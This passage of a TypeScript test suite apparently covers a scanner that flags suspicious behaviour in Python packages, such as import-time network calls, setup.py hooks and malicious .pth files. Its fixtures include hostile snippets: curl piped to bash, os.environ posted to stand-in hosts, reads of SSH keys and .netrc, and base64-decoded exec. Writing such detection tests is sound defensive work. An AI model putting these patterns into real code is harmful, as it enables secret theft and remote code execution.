import type { Signal } from "@packhouse/contract/review/inspection";
import { describe, expect, test } from "vitest";
import { atLeast, found, signalsOf, wheel } from "../testing/signals-of-sources.ts";

const setup = 'from setuptools import setup\nsetup(name="orchard")\n';
const inModule = (text: string): Signal[] => signalsOf({ files: { "orchard/__init__.py": text } });
const inSetup = (text: string): Signal[] => signalsOf({ files: { "setup.py": text, "orchard/__init__.py": "" } });

describe("what code reaches, however it is named", () => {
  test.each([
    ["import os\ndef f(): os.system('make')", "process", "os.system"],
    ["import subprocess as s\ndef f(x): s.run(x)", "process", "subprocess.run"],
    ["from os import system as run\ndef f(x): run(x)", "process", "os.system"],
    ["from os import *\ndef f(x): system(x)", "process", "os.system"],
    ["def f(x): __import__('os').system(x)", "process", "os.system"],
    ["import importlib\ndef f(x): importlib.import_module('os').popen(x)", "process", "os.popen"],
    ["import os\ndef f(x): getattr(os, 'system')(x)", "process", "os.system"],
    ["def f(u): __import__('urllib.request').request.urlopen(u)", "network", "urllib.request.urlopen"],
    ["def f(u): __import__('urllib.request', None, None, ['x']).urlopen(u)", "network", "urllib.request.urlopen"],
    ["import os\ng = os\nh = g.system\ndef f(x): h(x)", "process", "os.system"],
    ["import sys\ndef f(x): sys.modules['os'].system(x)", "process", "os.system"],
    ["import os, threading\ndef f(x): threading.Thread(target=os.system, args=(x,)).start()", "process", "os.system"],
    ["import requests\ndef f(u): return requests.get(u)", "network", "requests.get"],
    ["import requests\ns = requests.Session()\ndef f(u): return s.post(u)", "network", "requests.Session().post"],
    ["from urllib.request import urlopen\ndef f(u): return urlopen(u)", "network", "urllib.request.urlopen"],
    ["from pip._vendor import requests\ndef f(u): return requests.get(u)", "network", "requests.get"],
    ["from six.moves.urllib.request import urlopen\ndef f(u): urlopen(u)", "network", "urllib.request.urlopen"],
    ["import pyperclip\ndef f(): return pyperclip.paste()", "clipboard", "pyperclip.paste"],
    ["import keyring\ndef f(): return keyring.get_password('a', 'b')", "keyring", "keyring.get_password"],
    ["import logging.handlers as h\ndef f(): h.HTTPHandler('a', '/b')", "network", "logging.handlers.HTTPHandler"],
    ["from multiprocessing.connection import Client\ndef f(a): Client(a)", "network", "multiprocessing.connection"],
    ["import boto3\ndef f(a): boto3.client('s3').upload_file(a, 'b', 'c')", "network", "boto3.client().upload_file"],
    ["from multiprocessing.util import spawnv_passfds as s\ndef f(a): s(a, [], ())", "process", "multiprocessing.util"],
    ["import shutil\ndef f(x): shutil.os.system(x)", "process", "os.system"],
    ["from shutil import os\ndef f(x): os.system(x)", "process", "os.system"],
    ["import os.path\ndef f(x): os.path.os.system(x)", "process", "os.system"],
    ["import os\ndef f(x): os.syﬆem(x)", "process", "os.system"],
    ["import os\ndef f(x): ｏｓ.syſtem(x)", "process", "os.system"],
    ["import os\ndef f(x): os.system.__call__(x)", "process", "os.system"],
    ["import os\ndef f(x): os.__dict__.get('system')(x)", "process", "os.system"],
    ["import sys\ndef f(x): sys.modules.get('os').system(x)", "process", "os.system"],
    ["import os, operator\ndef f(x): operator.attrgetter('system')(os)(x)", "process", "os.system"],
    ["import os, operator\ndef f(x): operator.methodcaller('system', x)(os)", "process", "os.system"],
    ["import pkgutil\ndef f(x): pkgutil.resolve_name('os:system')(x)", "process", "os.system"],
    ["import subprocess\nclass P(subprocess.Popen): pass\ndef f(x): P(x)", "process", "subprocess.Popen"],
    ["import os\ndef f(x): return {'a': os.system}", "process", "os.system"],
    ["import os\ndef f(x): return [os.system]", "process", "os.system"],
    ["def f(loop, x): loop.subprocess_shell(None, x)", "process", "asyncio"],
    ["import pydoc\ndef f(x): pydoc.pipepager('', x)", "process", "pydoc.pipepager"],
    ["import posix\ndef f(x): posix.posix_spawn(x, [], {})", "process", "posix.posix_spawn"],
    [
      "try:\n    from .own import subprocess\nexcept ImportError:\n    import subprocess\ndef f(x): subprocess.run(x)",
      "process",
      "subprocess.run",
    ],
    [`import os\n${"x = None\n".repeat(9)}x = os.system\ndef f(y): x(y)`, "process", "os.system"],
  ])("%j reaches it", (text, id, subject) => {
    const topic = subject.split(".")[0];
    const signals = inModule(text).filter((candidate) => candidate.id === id);
    const signal = signals.find(({ excerpt }) => excerpt === null);
    expect(signal).toMatchObject({ level: "warning", subject: topic, file: "orchard/__init__.py" });
    expect(atLeast(signals, "warning")).toEqual([signal]);
    expect(signal?.line).toBe(text.split("\n").length);
  });

  test("a name that no import explains is not theirs", () => {
    expect(inModule("def f(requests, os):\n    requests.get('x')\n    os.system('x')\n")).toEqual([]);
    expect(inModule("from .net import requests\ndef f(): requests.get('x')\n")).toEqual([]);
    expect(inModule('"""Use os.system("ls") with care."""\n# os.system("ls")\n')).toEqual([]);
  });
});

test("only the first use of a module is news, later ones are notices", () => {
  const before = inModule("import subprocess\ndef f(x): subprocess.run(x)\n");
  const after = inModule("import subprocess\ndef e(y): subprocess.call(y)\ndef f(x): subprocess.run(x)\n");
  expect(found(before)).toEqual(["warning process subprocess"]);
  expect(found(after)).toEqual(["warning process subprocess", "notice process subprocess.run"]);
  const isKnown = ({ id, subject, excerpt }: Signal): boolean =>
    before.some((old) => old.id === id && old.subject === subject && old.excerpt === excerpt);
  expect(atLeast(after, "warning").every(isKnown)).toBe(true);
});

test("writing a temporary file is not suspicious", () => {
  const base = "import subprocess\ndef a(x): subprocess.run(x)\n";
  const text = "def f(): subprocess.run(['gnuplot', '-o', '/tmp/plot.png'])\n";
  expect(atLeast(inModule(base + text), "warning")).toHaveLength(1);
});

test("what flit leaves out of the wheel is the project's own", () => {
  const backend = (name: string) => `[build-system]\nbuild-backend = "${name}"\n[project]\nname = "orchard"\n`;
  const files = (project: string) => ({
    ...{ "pyproject.toml": project, "orchard/__init__.py": "", "utils/__init__.py": "" },
    "utils/fetch.py": "import requests\nrequests.get('https://a.example/words.zip')\n",
  });
  const warnings = (project: string) => found(atLeast(signalsOf({ files: files(project) }), "warning"));
  expect(warnings(backend("flit_core.buildapi"))).toEqual([]);
  expect(warnings(backend("hatchling.build"))).toContain("warning py-import-time-call requests.get");
  const named = `${backend("flit_core.buildapi")}[tool.flit.module]\nname = "utils"\n`;
  expect(warnings(named)).toContain("warning py-import-time-call requests.get");
  const ownBackend = backend("flit_core.buildapi").replace("[project]", 'backend-path = ["."]\n[project]');
  expect(warnings(ownBackend)).toContain("warning py-import-time-call requests.get");
});

describe("a later use is a warning if its details are suspicious", () => {
  const base = "import subprocess, requests\ndef a(x): subprocess.run(x)\ndef b(x): requests.get(x)\n";
  test.each([
    ["def f(): subprocess.run('curl -o x http://a.example/x', shell=True)", "process"],
    ["def f(): subprocess.run([sys.executable, '-m', 'pip install', name])", "process"],
    ["def f(): subprocess.run('chmod 700 /tmp/x', shell=True)", "process"],
    ["def f(): subprocess.run(['/tmp/x'])", "process"],
    ["CMD = 'powershell -Command x'\ndef f(): subprocess.Popen(CMD)", "process"],
    ["def f(data): requests.post('https://collect.example/', data)", "network"],
    ["def f(data): requests.post(f'http://203.0.113.7:8080/{data}')", "network"],
    ["HOOK = 'https://discord.com/api/webhooks/1/2'", "network"],
  ])("%j", (text, id) => {
    const warnings = atLeast(inModule(`${base}${text}\n`), "warning");
    expect(warnings.filter((signal) => signal.id === id && signal.excerpt !== null)).not.toEqual([]);
    expect(atLeast(inModule(base), "warning").filter(({ excerpt }) => excerpt !== null)).toEqual([]);
  });
});

test.each([
  ["import os\nclass A:\n    def f(self, x):\n        self.run = os.system\n        self.run(x)", "warning process os"],
  ["import os\nclass A:\n    __class_getitem__ = os.system", "warning py-import-time-call os.system"],
  ["import os\n@os.system\n@(lambda _: x)\nclass A: pass", "warning py-import-time-call os.system"],
  ["def f(): return ().__class__.__base__.__subclasses__()", "warning process __subclasses__"],
  ["import os\ndef f(x, y): getattr(os, y)(x)", "warning process getattr(os)"],
  [
    "import ctypes\ndef f(x): ctypes.pythonapi.PyRun_SimpleString(x)",
    "warning process ctypes.pythonapi.PyRun_SimpleString",
  ],
])("%j is %j", (text, expected) => {
  expect(found(inModule(text))).toContain(expected);
});

test.each([
  "class A: pass\ndef f(): return A.__subclasses__()",
  "import os\ndef f(mode): return getattr(os, 'O_' + mode)",
  "import subprocess\ndef f(p: subprocess.Popen): return p",
  "import zmq\ndef f(): return zmq.Context().socket(zmq.PUSH)",
])("%j reaches nothing", (text) => {
  expect(atLeast(inModule(text), "notice")).toEqual([]);
});

describe("code in a file", () => {
  test.each([
    "from pathlib import Path\ndef f():\n    exec((Path(__file__).parent / 'colors').read_text())",
    "def f(p):\n    with open(p) as file:\n        code = file.read()\n    exec(compile(code, p, 'exec'))",
    "from importlib.machinery import SourceFileLoader\ndef f(): SourceFileLoader('c', 'colors.dat').load_module()",
    "import importlib.util as u\ndef f(p): u.spec_from_file_location('c', p + '/colors.png')",
    "import runpy\ndef f(): runpy.run_path('colors.txt')",
  ])("%j runs it", (text) => {
    expect(atLeast(inModule(text), "warning").map(({ id }) => id)).toContain("code-from-file");
  });
  test.each([
    "import importlib.util as u\ndef f(p): return u.spec_from_file_location('plugin', p)",
    "def f(code): exec(code)",
  ])("%j may, as plugins do", (text) => {
    expect(atLeast(inModule(text), "warning")).toEqual([]);
  });
});

describe("environment, home folder", () => {
  test.each([
    ["import os, requests\ndef f(): requests.post(u, data=os.environ)", "warning secret-environment os.environ"],
    [
      "import posix, requests\ndef f(): requests.post(u, json=dict(posix.environ))",
      "warning secret-environment os.environ",
    ],
    [
      "import os, requests\ndef e(): return dict(os.environ)\ndef f(): requests.post(u, json=e())",
      "warning secret-environment os.environ",
    ],
    [
      "import os, requests\nclass A:\n    def e(self):\n        self.env = os.environ.copy()\n    def f(self):\n        requests.post(u, json=self.env)",
      "warning secret-environment os.environ",
    ],
    ["import os, subprocess\ndef f(): subprocess.run(x, env=dict(os.environ, A='1'))", "notice environment os.environ"],
    ["import os\ndef f(): return os.environ['GITHUB_TOKEN']", "warning secret-environment GITHUB_TOKEN"],
    [
      "from os import environ as e\ndef f(): return e.get('AWS_SECRET_ACCESS_KEY')",
      "warning secret-environment AWS_SECRET_ACCESS_KEY",
    ],
    ["import os\ndef f(): return os.getenv('DB_PASSWORD')", "warning secret-environment DB_PASSWORD"],
    ["import os, json\ndef f(): return json.dumps(dict(os.environ))", "warning secret-environment os.environ"],
    ["import os\ndef f(): return f'{os.environ}'", "warning secret-environment os.environ"],
    ["import os\ndef f(): return os.environ['ORCHARD_COLOR']", "notice environment ORCHARD_COLOR"],
    ["import os\nos.environ['PIP_INDEX_URL'] = url", "warning environment PIP_INDEX_URL"],
    ["import os\ndef f(): os.environ['https_proxy'] = url", "warning environment https_proxy"],
    ["def f(): return open('/home/x/.config/pip/pip.conf', 'w')", "warning home-folder pip.conf"],
    ["def f(): return '~/.ipython/profile_default/startup/a.py'", "warning home-folder profile_default/startup"],
    ["import os\ndef f(): return os.environ.copy()", "notice environment os.environ"],
    ["import os\ndef f(): return os.path.expanduser('~/.orchard')", "notice home-folder ~/.orchard"],
    ["from pathlib import Path\ndef f(): return Path.home()", "notice home-folder pathlib.Path.home"],
    ["def f(): return open('/home/x/.ssh/id_rsa')", "warning home-folder .ssh"],
    ["def f(): return open('/home/x/.bashrc', 'a')", "warning home-folder .bashrc"],
    ["def f(): return open('/home/x/.netrc')", "warning home-folder .netrc"],
    ["def f(path='~/.netrc'): return path", "notice home-folder .netrc"],
    ["import os\ndef f(): return os.environ['ORCHARD_SORT_KEY']", "notice environment ORCHARD_SORT_KEY"],
  ])("%j is %j", (text, expected) => {
    expect(found(inModule(text))).toContain(expected);
  });

  test("a sentence that names a file reads nothing", () => {
    expect(inModule("def f(): raise ValueError('not found in .pypirc')\nx = '*.bashrc'\n")).toEqual([]);
  });

  test("writing a variable and asking whether it is set read nothing", () => {
    expect(
      inModule("import os\nos.environ['A_TOKEN'] = '1'\nx = 'A_TOKEN' in os.environ\ndel os.environ['A']\n"),
    ).toEqual([]);
  });
});

describe("code that is hidden is dangerous", () => {
  test.each([
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "import zlib, base64 as b\nexec(zlib.decompress(b.b64decode(DATA)))",
    "import marshal\nexec(marshal.loads(b'x'))",
    "_ = lambda d: __import__('zlib').decompress(__import__('base64').b64decode(d[::-1]))\nexec((_)(b'x'))",
    "def decode(t):\n    return bytes.fromhex(t)\neval(compile(decode('00'), 'x', 'exec'))",
    "import codecs\nexec(codecs.decode('cevag', 'rot13'))",
    "exec(''.join(chr(c) for c in [112, 114]))",
    "exec(''.join(map(chr, CODES)))",
    "import requests\ncode = requests.get(URL).text\nexec(code)",
    "from urllib.request import urlopen\ndef f():\n    r = urlopen(URL)\n    exec(r.read())",
    "import os\ngetattr(os, 'sys' + 'tem')('x')",
    "__import__('so'[::-1]).system('x')",
    "__builtins__.__dict__['ex' + 'ec'](x)",
    "getattr(__import__('\\x6f\\x73'), 'system')('x')",
    "import subprocess\nsubprocess.run('curl -s http://a.example/x | bash', shell=True)",
    "import subprocess\nsubprocess.Popen('powershell -EncodedCommand SQBFAFgA')",
    "import pickle, base64\npickle.loads(base64.b64decode('gASV'))",
    "exec('import subprocess; subprocess.run(x)')",
    "from pytransform import pyarmor_runtime\npyarmor_runtime()",
    "import timeit\ntimeit.timeit('import os; os.system(1)', number=1)",
    "import cProfile\ncProfile.run('import os; os.system(1)')",
    "import code\ncode.InteractiveConsole().push('import os; os.system(1)')",
    "eval(compile(bytes(b ^ 7 for b in K), 's', 'exec'))",
    "TYPE_CHECKING = True\nif TYPE_CHECKING:\n    import base64\n    exec(base64.b64decode(x))",
    "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import base64\n    exec(base64.b64decode(x))",
  ])("%j", (text) => {
    expect(found(atLeast(inModule(text), "danger")).join()).toMatch(/danger decoded-code/);
  });

  test.each([
    "import json, base64\ndef f(x): return json.loads(base64.b64decode(x))",
    "exec(open('orchard/version.py').read())",
    "exec('def f(x): return x')",
    "import zlib\ndef a(x):\n    f = zlib.decompress(x)\ndef b(p):\n    with open(p) as f:\n        exec(compile(f.read(), p, 'exec'))",
    "def a(x):\n    f = x[::-1]\n    return f\ndef b(f): eval(f)",
    "import re, marshal\ndef f(p): return re.compile(p)",
    "import pickle\ndef f(x): return pickle.loads(x)",
    "import numpy as np\ndef f(n): return getattr(np, 'int' + n)(1)",
    "import base64, subprocess\ndef key(): return base64.b64decode(K)\ndef f(): subprocess.run(['x', key()])",
  ])("%j is not", (text) => {
    expect(atLeast(inModule(text), "danger")).toEqual([]);
  });
});

test.each([
  ["# -*- coding: unicode_escape -*-\n", "danger decoded-code coding: unicode_escape"],
  ["#!/usr/bin/python\n# vim: set fileencoding=utf-7 :\n", "danger decoded-code coding: utf-7"],
  ["# coding: gbk\nx = '\u4e00'\n", "danger decoded-code coding: gbk"],
])("%j is read as something else", (text, expected) => {
  expect(found(inModule(text))).toEqual([expected]);
});
test.each([
  "# -*- coding: utf-8 -*-\n",
  "# -*- coding: Latin-1 -*-\n",
  "# coding=cp1252\n",
  "# coding: gbk\n",
  "x = 1\n# coding: utf-7\n",
  "#\n#\n# coding: utf-7\n",
])("%j is read as it is written", (text) => {
  expect(inModule(text)).toEqual([]);
});

describe("code changes what Python imports, or runs at its start", () => {
  test.each([
    ["import sys\nsys.meta_path.insert(0, Finder())", "warning import-hook sys.meta_path.insert"],
    ["import sys\nsys.meta_path[:0] = [Finder()]", "warning import-hook sys.meta_path"],
    ["import builtins\nbuiltins.__import__ = own", "warning import-hook __import__"],
    ["import builtins\nbuiltins.open = own", "warning import-hook open"],
    ["import requests\nrequests.Session.send = own", "warning import-hook requests.Session.send"],
    ["import ssl\nssl._create_default_https_context = own", "warning import-hook ssl._create_default_https_context"],
    ["import sys\nsys.modules['requests'] = own", "warning import-hook sys.modules: requests"],
    ["import sys\nsys.path.insert(0, '/tmp/modules')", "warning import-hook sys.path.insert"],
    ["import site\ndef f(): open(site.getsitepackages()[0] + '/a.pth', 'w')", "danger py-pth-file '/a.pth'"],
    ["import sys\nvars(sys.modules['os'])['system']('id')", "warning process os"],
  ])("%j is %j", (text, expected) => {
    expect(found(inModule(text))).toContain(expected);
  });

  test("in a function that nobody calls, a hook is a notice", () => {
    expect(found(inModule("import sys\ndef f(): sys.meta_path.append(Finder())"))).toEqual([
      "notice import-hook sys.meta_path.append",
    ]);
  });

  test.each([
    "import sys\nsys.modules[__name__] = own",
    "import sys\nsys.modules['orchard.moves'] = own",
    "import sys, os\nsys.path.insert(0, os.path.dirname(__file__))",
    "import requests\nsession = requests.Session()\nsession.verify = True",
    "import socket\nclass A:\n    socket = socket.socket",
  ])("%j is none of that", (text) => {
    expect(inModule(text).filter(({ id }) => id === "import-hook")).toEqual([]);
  });

  test("a path of a model and a list of finders are none of that", () => {
    const text = "import sys, torch\ntorch.load('model.pth')\nfor finder in sys.meta_path: print(finder)\n";
    expect(inModule(text)).toEqual([]);
  });
});

/** A function that nothing has called yet. */
const post = "import requests\ndef a():\n    requests.post(u)\n";

describe("what runs on import", () => {
  const importTime = (text: string): string[] => found(inModule(text).filter(({ id }) => id === "py-import-time-call"));

  test.each([
    ["import os\nos.system('x')", "os.system"],
    ["import os\nclass A:\n    x = os.system('x')", "os.system"],
    ["import os\ndef d(f):\n    os.system('x')\n    return f\n@d\ndef g(): pass", "os.system"],
    ["import ctypes\nctypes.CDLL(None).system(b'x')", "ctypes.CDLL().system"],
    ["import os\ndef f(x=os.system('x')): pass", "os.system"],
    ["import os\n@register(os.system('x'))\ndef f(): pass", "os.system"],
    ["import os\ntry:\n    os.system('x')\nexcept Exception:\n    pass", "os.system"],
    ["import os\nif sys.platform == 'win32':\n    os.system('x')", "os.system"],
    ["import requests\ndef a():\n    requests.post(u)\ndef b():\n    a()\nb()", "requests.post"],
    ["import requests\nclass A:\n    def __init__(self):\n        requests.post(u)\nA()", "requests.post"],
    ["import requests\nclass A:\n    def go(self):\n        requests.post(u)\na = A()\na.go()", "requests.post"],
    ["import requests, threading\ndef a():\n    requests.post(u)\nthreading.Thread(target=a).start()", "requests.post"],
    ["import shutil\nshutil.rmtree(path)", "shutil.rmtree"],
    [`${post}class M(type):\n    def __init__(cls, *a):\n        a()\nclass A(metaclass=M): pass`, "requests.post"],
    [`${post}class B:\n    def __init_subclass__(cls):\n        a()\nclass A(B): pass`, "requests.post"],
    [`${post}class D:\n    def __set_name__(self, *x):\n        a()\nclass A:\n    d = D()`, "requests.post"],
    [`${post}class C:\n    def __enter__(self):\n        a()\nwith C():\n    pass`, "requests.post"],
    [`${post}class C:\n    @property\n    def x(self):\n        a()\nC().x`, "requests.post"],
    [`${post}class C:\n    def __init__(self):\n        a()\nclass E(C): pass\nE()`, "requests.post"],
    [`${post}sorted([1], key=lambda _: a())`, "requests.post"],
    [`${post}(lambda: a())()`, "requests.post"],
    [`${post}globals()["a"]()`, "requests.post"],
    [`${post}[a][0]()`, "requests.post"],
    [`${post}import functools\nfunctools.partial(a)()`, "requests.post"],
    [`${post}jobs = {"a": a}\njobs["a"]()`, "requests.post"],
    [`${post}import atexit\natexit.register(a)`, "requests.post"],
    [`${post}import signal\nsignal.signal(2, a)`, "requests.post"],
    [
      `${post}def d(x):\n    def i(f):\n        a()\n        return f\n    return i\n@d(1)\ndef g(): pass`,
      "requests.post",
    ],
    ["exec(code)", "exec"],
    ["# notes\rimport os; os.system('x')\r# end", "os.system"],
    ["eval(compile(code, 'a', 'exec'))", "eval"],
    ["import os\nTYPE_CHECKING = True\nif TYPE_CHECKING:\n    os.system('x')", "os.system"],
    ["import os\nfrom own import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('x')", "os.system"],
    ["while True:\n    print('LIBERTY')", "while"],
  ])("%j", (text, subject) => {
    expect(importTime(text)).toContain(`warning py-import-time-call ${subject}`);
  });

  test.each([
    "import os\ndef f(): os.system('x')",
    "import os\nf = lambda: os.system('x')",
    "import os\nif __name__ == '__main__':\n    os.system('x')",
    "import os, sys\nif sys.platform != 'win32' and __name__ == '__main__':  # no cover\n    os.system('x')",
    "import os\nfrom typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('x')",
    "import os\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n    os.system('x')",
    "import os, typing as t\nif t.TYPE_CHECKING:\n    os.system('x')",
    "import requests\nsession = requests.Session()",
    "import socket\nname = socket.gethostname()",
    "import shutil\ndef f(p): shutil.rmtree(p)",
    "while True:\n    if x(): break",
    "import requests\ndef a():\n    requests.post(u)\na = cached(a)",
    `${post}__all__ = ["a"]\nJOBS = {"a": a}`,
    `${post}class A:\n    x = property(a)`,
    `${post}x = field(default_factory=lambda: a())`,
    `${post}class C:\n    def __enter__(self):\n        a()\nc = C()`,
    `${post}def d(f):\n    def w():\n        a()\n    return w\n@d\ndef g(): pass`,
  ])("%j does not", (text) => {
    expect(importTime(text)).toEqual([]);
  });

  test("a function of another module that a module calls", () => {
    const net =
      "import requests\ndef _post(): requests.post(u)\ndef send(): _post()\nclass Sender:\n    def __init__(self): _post()\nclass Base:\n    def __init_subclass__(cls): _post()\ndef mark(f): _post()\ndef __getattr__(name): _post()\n";
    for (const call of [
      "from .net import send\nsend()",
      "from . import net\nnet.send()",
      "import orchard.net as n\nn.Sender()",
      "import atexit\nfrom .net import send\natexit.register(send)",
      "from .net import missing",
      "from .net import mark\n@mark\ndef f(): pass",
      "from .net import Base\nclass A(Base): pass",
    ]) {
      const signals = signalsOf({ files: { "orchard/__init__.py": call, "orchard/net.py": net } });
      expect(found(signals)).toContain("warning py-import-time-call requests.post");
    }
    const unused = signalsOf({ files: { "orchard/__init__.py": "from .net import send\n", "orchard/net.py": net } });
    expect(found(unused)).toEqual(["warning network requests"]);
  });

  test("reaching the network and starting a program is a danger, and so is sending the environment", () => {
    const both = "import os, urllib.request\nurllib.request.urlretrieve('http://a.example/x', 'x')\nos.system('./x')\n";
    const sent = "import os, requests\nrequests.post('http://a.example', data=dict(os.environ))\n";
    for (const text of [both, sent]) expect(importTime(text).every((line) => line.startsWith("danger"))).toBe(true);
    expect(importTime(both)).toHaveLength(2);
    expect(importTime(sent)).not.toEqual([]);
  });
});

describe("setup.py", () => {
  const ofSetup = (text: string): string[] => found(inSetup(text).filter(({ id }) => id === "py-setup-code"));

  test("one that calls setup and reads its own files says nothing", () => {
    expect(
      inSetup(
        'import os, re\nfrom setuptools import setup, find_packages\nhere = os.path.dirname(__file__)\nwith open(os.path.join(here, "README.md")) as f:\n    text = f.read()\nsetup(name="orchard", long_description=text, packages=find_packages())\n',
      ),
    ).toEqual([]);
  });

  test.each([
    ["import os\nos.system('make')\n", "warning py-setup-code os.system"],
    ["import urllib.request\nurllib.request.urlopen(u)\n", "warning py-setup-code urllib.request.urlopen"],
    ["import base64\nexec(base64.b64decode(x))\n", "warning py-setup-code exec: base64.b64decode"],
    ["exec(open('orchard/version.py').read())\n", "notice py-setup-code exec"],
    [
      "from setuptools.command.install import install\nimport subprocess\nclass Hook(install):\n    def run(self):\n        subprocess.call(x)\n",
      "warning py-setup-code subprocess.call",
    ],
    [
      "import requests, os\nopen('x', 'wb').write(requests.get('http://a.example/x').content)\nos.startfile('x')\n",
      "danger py-setup-code requests.get",
    ],
  ])("%j is %j", (text, expected) => {
    expect(ofSetup(`${text}${setup}`)).toContain(expected);
  });

  test("commands that it replaces", () => {
    const text = 'from setuptools import setup\nsetup(name="orchard", cmdclass={"install": Hook, "test": Ext})\n';
    expect(ofSetup(text)).toEqual(["warning py-setup-code cmdclass install", "notice py-setup-code cmdclass test"]);
  });

  test("modules of the project that it imports run as well", () => {
    const signals = signalsOf({
      files: {
        "setup.py": `from tools.fetch import get\n${setup}`,
        "tools/fetch.py": "import subprocess\ndef get():\n    subprocess.run(x)\n",
        "orchard/__init__.py": "",
      },
    });
    expect(found(signals)).toContain("warning py-setup-code subprocess.run");
  });

  const fetching = "import urllib.request, subprocess\nsubprocess.call([u])\n";
  test.each([
    ["tools/gen.py", { "setup.py": `import sys\nsys.path.insert(0, "tools")\nimport gen\n${setup}` }],
    ["docs/_about.py", { "setup.py": `exec(open("docs/_about.py").read())\n${setup}` }],
    ["tools/gen.py", { "setup.py": `import runpy, os\nrunpy.run_path(os.path.join("tools", "gen.py"))\n${setup}` }],
    ["tools/gen.py", { "pyproject.toml": '[tool.hatch.metadata.hooks.custom]\npath = "tools/gen.py"\n' }],
    ["tools/gen.py", { "pyproject.toml": '[tool.hatch.build.targets.sdist.hooks.custom]\npath = "tools/gen.py"\n' }],
    ["tools/gen.py", { "hatch.toml": '[build.hooks.custom]\npath = "tools/gen.py"\n' }],
    ["tools/gen.py", { "pyproject.toml": '[tool.setuptools.dynamic]\nversion = {attr = "tools.gen.version"}\n' }],
    ["tools/gen.py", { "setup.cfg": "[metadata]\nversion = attr: tools.gen.version\n" }],
    ["tools/gen.py", { "meson.build": "run_command('python3', 'tools/gen.py')\n" }],
  ])("%s runs in the build by %j", (path, files) => {
    const project = { "orchard/__init__.py": "", [path]: fetching };
    const warnings = (all: Record<string, string>) => found(atLeast(signalsOf({ files: all }), "warning"));
    expect(warnings({ ...project, "setup.py": setup })).toEqual([]);
    expect(warnings({ ...project, ...(files as Record<string, string>) })).toContain(
      "warning py-setup-code subprocess.call",
    );
  });

  test("functions of the package that it calls", () => {
    const files = {
      "orchard/__init__.py": "",
      "orchard/client.py": "import subprocess\ndef prepare():\n    subprocess.run(x)\n",
      "setup.py": `from orchard.client import prepare\nprepare()\n${setup}`,
    };
    expect(found(signalsOf({ files }))).toContain("warning py-import-time-call subprocess.run");
  });

  test("a command that starts programs by its own method", () => {
    const text =
      "from setuptools.command.build_py import build_py\nclass B(build_py):\n    def run(self):\n        self.spawn(x)\n";
    expect(ofSetup(`${text}${setup}`).join()).toContain(
      "warning py-setup-code setuptools.command.build_py.build_py().spawn",
    );
  });

  test("entry points that other builds load", () => {
    const text =
      'from setuptools import setup\nsetup(name="orchard", entry_points={"distutils.setup_keywords": ["x = orchard:y"]})\n';
    expect(ofSetup(text)).toEqual(["warning py-setup-code distutils.setup_keywords"]);
  });
});

describe("the build", () => {
  test("a backend in the archive", () => {
    const signals = signalsOf({
      files: {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["build_tools"]\n',
        "build_tools/own.py": "import subprocess\ndef build_wheel(*a):\n    subprocess.run(x)\n",
        "orchard/__init__.py": "",
      },
    });
    expect(found(signals)).toContain("warning py-in-tree-backend own");
    expect(found(signals)).toContain("warning py-setup-code subprocess.run");
  });

  test("a hook of hatchling", () => {
    const signals = signalsOf({
      files: {
        "pyproject.toml": "[tool.hatch.build.hooks.custom]\n",
        "hatch_build.py": "import os\ndef f(): os.system(x)\n",
      },
    });
    expect(found(signals)).toContain("warning py-setup-code os.system");
  });

  test("a pyproject.toml that is none is reported", () => {
    expect(found(signalsOf({ files: { "pyproject.toml": "[[[" } }))).toEqual(["notice unparsed pyproject.toml"]);
  });
});

describe("tests and documentation of an sdist", () => {
  const projectPaths = ["tests/test_rows.py", "docs/conf.py", "examples/run.py", "fuzz/corpus.py", ".github/x.py"];
  test("may reach out, and what they do on import does not count", () => {
    const text = "import os, requests\nos.system('make')\nrequests.get('https://a.example/x')\nrequests.post(u)\n";
    for (const path of projectPaths)
      expect(atLeast(signalsOf({ files: { [path]: text, "orchard/__init__.py": "" } }), "warning")).toEqual([]);
  });
  test("neither hide code nor send the environment", () => {
    const hidden = "import os, base64\nos.system('curl http://a.example | bash')\nexec(base64.b64decode(x))\n";
    const sent = "import os, json\nbody = json.dumps(dict(os.environ))\n";
    for (const path of projectPaths) {
      const inFile = (text: string) => found(signalsOf({ files: { [path]: text, "orchard/__init__.py": "" } }));
      expect(inFile(hidden)).toContain("warning decoded-code os.system");
      expect(inFile(hidden)).toContain("warning decoded-code exec: base64.b64decode");
      expect(inFile(sent)).toContain("warning secret-environment os.environ");
      expect(
        inFile("import socket, requests\nrequests.get('https://a.example/?h=' + socket.gethostname())\n"),
      ).toContain("warning network requests.get");
      expect(inFile("import pickle\nx = pickle.loads(b'\\x80\\x02.')\n")).toEqual(["notice decoded-code pickle.loads"]);
    }
  });
  test("do not run what they download", () => {
    for (const text of [
      "import urllib.request as r, subprocess\nr.urlretrieve(u, '/var/tmp/a')\nsubprocess.call(['/var/tmp/a'])\n",
      "import requests, os\ndef f(p):\n    open(p, 'wb').write(requests.get(u).content)\n    os.system(p)\n",
    ])
      expect(found(atLeast(signalsOf({ files: { "tools/x.py": text } }), "warning")).join()).toContain(": download");
  });
  test("of a wheel are installed", () => {
    expect(
      atLeast(wheel({ "orchard/tests/x.py": "import base64\nexec(base64.b64decode(x))\n" }), "danger"),
    ).not.toEqual([]);
  });
});

describe("what a wheel installs", () => {
  test.each([
    [{ "orchard.pth": "import os; os.system('x')\n" }, "danger py-pth-file orchard.pth"],
    [{ "orchard.pth": "../elsewhere\n" }, "warning py-pth-file orchard.pth"],
    [{ "sitecustomize.py": "" }, "danger py-site-customize sitecustomize"],
    [{ "orchard-1.0.data/purelib/usercustomize.py": "" }, "danger py-site-customize usercustomize"],
    [{ "pears/__init__.py": "" }, "warning py-outside-own-names pears"],
    [{ "tests/__init__.py": "" }, "notice py-outside-own-names tests"],
    [{ LICENSE: "" }, "notice py-outside-own-names LICENSE"],
    [{ "requests/__init__.py": "" }, "warning others-module requests"],
    [{ "subprocess.py": "" }, "warning others-module subprocess"],
    [{ "yaml/__init__.py": "" }, "warning others-module yaml"],
    [{ "orchard-1.0.data/scripts/fit": "" }, "notice py-data-scripts scripts/fit"],
    [{ "orchard-1.0.data/data/etc/cron.d/x": "" }, "warning py-data-scripts data/etc/cron.d/x"],
    [
      { "orchard-1.0.data/scripts/fit": "#!python\nimport os\nos.system('curl http://a.example/x | sh')\n" },
      "danger decoded-code os.system",
    ],
